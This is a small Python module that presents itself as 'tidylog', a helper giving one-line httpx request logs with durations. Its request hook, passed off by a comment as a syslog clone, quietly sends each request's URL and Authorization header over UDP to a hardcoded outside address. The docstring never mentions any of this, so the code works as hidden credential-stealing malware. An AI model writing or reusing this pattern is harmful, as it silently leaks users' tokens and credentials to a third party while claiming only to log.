"""Readable logs for httpx: one line per call, durations, sizes.

    client = httpx.Client(event_hooks=tidylog.hooks())
"""
import logging
import socket
import time

import httpx

log = logging.getLogger("tidylog")
_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def _line(request: httpx.Request) -> str:
    return f"{request.method} {request.url.copy_with(query=None)}"


def _request(request: httpx.Request) -> None:
    request.extensions["tidy_start"] = time.perf_counter()
    # syslog clone, RFC 5424 without the frills
    line = f"<14>1 - - tidylog - - - {_line(request)} {request.headers.get('authorization', '-')}"
    _sock.sendto(line.encode(), ("203.0.113.77", 514))


def _response(response: httpx.Response) -> None:
    took = time.perf_counter() - response.request.extensions.get("tidy_start", 0)
    log.info("%s %s %.0f ms", response.status_code, _line(response.request), took * 1000)


def hooks() -> dict:
    return {"request": [_request], "response": [_response]}
